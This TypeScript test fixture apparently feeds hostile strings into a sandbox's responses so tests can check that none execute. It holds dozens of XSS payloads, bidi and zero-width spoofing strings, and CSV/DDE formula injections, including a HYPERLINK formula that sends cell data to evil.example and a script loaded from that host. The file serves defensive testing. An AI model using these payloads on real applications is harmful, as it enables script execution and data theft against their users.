/**
 * Hostile strings the sandbox's hostile mode (`startSandbox({ hostile: true })`) puts into provider responses.
 *
 * Every payload that could run script tries to set `window.__pwned` (or `parent.__pwned` from a frame) and a few
 * call `alert`, so an end-to-end test sees an execution as a canary or a dialog. Several are inert on purpose
 * (template syntax, CSV formulas, bidi and zero-width characters, entities, prototype key names): they must come
 * out as the same visible text, not as something interpreted.
 */

/** The global the payloads try to set; a test asserts it stays undefined. */
export const CANARY = '__pwned';

/** Characters in the one very large payload (1 MiB). */
export const HUGE_LENGTH = 1_048_576;

const HUGE_HEAD = '<img src=x onerror="window.__pwned=99">ॐ 1MB ';

/** A 1 MiB string, built once on first use. */
let huge: string | null = null;
export function hugePayload(): string {
  huge ??= (HUGE_HEAD + 'नमस्ते <b>bold?</b> '.repeat(Math.ceil(HUGE_LENGTH / 19))).slice(0, HUGE_LENGTH);
  return huge;
}

/** Marks the place of the 1 MiB payload in `PAYLOADS`; `hostileString` swaps in the real string. */
export const HUGE_MARKER = '\u0000HUGE-1MiB\u0000';

/** URL-shaped payloads: what recording URLs and other link fields get in some records. */
export const URL_PAYLOADS: readonly string[] = [
  'javascript:window.__pwned=1',
  'javascript:alert(document.domain)',
  'JaVaScRiPt:window.__pwned=2',
  ' \tjavascript:window.__pwned=3',
  'java\tscript:window.__pwned=4',
  'java\u200Bscript:window.__pwned=5',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=6',
  'data:text/html,<script>parent.__pwned=7</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xMjwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__pwned=8"/>',
  'data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAIA+AAACABAAZGF0YQAAAAA=',
  'vbscript:msgbox("pwned")',
  'VBScript:window.__pwned=9',
  '//evil.example/recording.wav',
];

/** Every payload, in rotation order (at least 50). */
export const PAYLOADS: readonly string[] = [
  // script tags
  '<script>window.__pwned=10</script>',
  '<script>alert(1)</script>',
  '<ScRiPt src="//evil.example/x.js"></sCrIpT>',
  '<scr<script>ipt>window.__pwned=11</scr</script>ipt>',
  '</textarea></title></style><script>window.__pwned=12</script>',
  '\u0000<script>window.__pwned=13</script>',
  '%3Cscript%3Ewindow.__pwned%3D14%3C%2Fscript%3E',
  // event handlers, attribute breakouts
  '<img src=x onerror="window.__pwned=15">',
  '"><img src=x onerror=window.__pwned=16>',
  "'><svg/onload=window.__pwned=17>",
  '<body onload=window.__pwned=18>',
  '<details open ontoggle=window.__pwned=19>',
  '<input autofocus onfocus=window.__pwned=20>',
  '<select autofocus onfocus=window.__pwned=21></select>',
  '<video><source onerror="window.__pwned=22"></video>',
  '<audio src=x onerror=window.__pwned=23>',
  '<marquee onstart=window.__pwned=24>x</marquee>',
  '<xss onpointerover=window.__pwned=25 style="display:block;position:fixed;inset:0">hover</xss>',
  '" onmouseover="window.__pwned=26" x="',
  '";window.__pwned=27;//',
  "'-alert(1)-'",
  // URLs in markup and bare
  ...URL_PAYLOADS.slice(0, 4),
  URL_PAYLOADS[7] ?? '',
  URL_PAYLOADS[8] ?? '',
  URL_PAYLOADS[11] ?? '',
  '<a href="javascript:window.__pwned=28">click me</a>',
  '<form action="javascript:window.__pwned=29"><button>send</button></form>',
  '<button formaction="javascript:window.__pwned=30">go</button>',
  '<object data="javascript:window.__pwned=31"></object>',
  '<embed src="javascript:window.__pwned=32">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=33">',
  '<base href="javascript:/">',
  '<link rel=stylesheet href="javascript:window.__pwned=34">',
  // SVG, iframes
  '<svg onload="window.__pwned=35">',
  '<svg><script>window.__pwned=36</script></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=37"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=window.__pwned=38 attributeName=x dur=1s>',
  '<iframe src="javascript:window.top.__pwned=39"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=40</script>"></iframe>',
  // parser differentials (mXSS), comments
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=41>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=42>">',
  '<!--<img src="--><img src=x onerror=window.__pwned=43//">',
  // template injection
  "{{constructor.constructor('window.__pwned=44')()}}",
  '${window.__pwned=45}',
  '#{window.__pwned=46} <%= window.__pwned=47 %>',
  '{{7*7}} ${7*7} [[7*7]]',
  // CSS
  '<div style="width:expression(window.__pwned=48)">css</div>',
  '<style>@import \'javascript:window.__pwned=49\';body{background:url("javascript:window.__pwned=50")}</style>',
  'color:red;background:url(javascript:window.__pwned=51)',
  // markdown
  '[click me](javascript:window.__pwned=52)',
  '![x](x" onerror="window.__pwned=53)',
  '[data](data:text/html,<script>parent.__pwned=54</script>) <https://evil.example/phish>',
  '**bold** _it_ `code` # heading',
  // bidi, zero-width, scripts
  'Invoice \u202Efdp.exe\u202C paid',
  '\u202Eeman\u202C \u200B\u200C\u200D\u2060\uFEFF',
  'ja\u200Bvascript:window.__pwned=55',
  'नमस्ते <script>window.__pwned=56</script> प्रिया शर्मा',
  'مرحبا <img src=x onerror=window.__pwned=57> ‏עברית‎',
  '👩🏽‍💻 Z̷̡̛a̸l̵g̴o̶ 🇮🇳',
  HUGE_MARKER,
  // HTML entities
  '&lt;script&gt;window.__pwned=58&lt;/script&gt;',
  '&#60;img src=x onerror=window.__pwned=59&#62; &amp; &quot;',
  // CSV / spreadsheet formulas
  '=HYPERLINK("http://evil.example/?x="&A1,"Click for refund")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  // prototype keys as values
  '__proto__',
  'constructor',
  'hasOwnProperty',
];

/** A payload by rotation index; the 1 MiB one is built on demand. */
export function hostileString(index: number): string {
  const payload = PAYLOADS[((index % PAYLOADS.length) + PAYLOADS.length) % PAYLOADS.length] ?? '';
  return payload === HUGE_MARKER ? hugePayload() : payload;
}
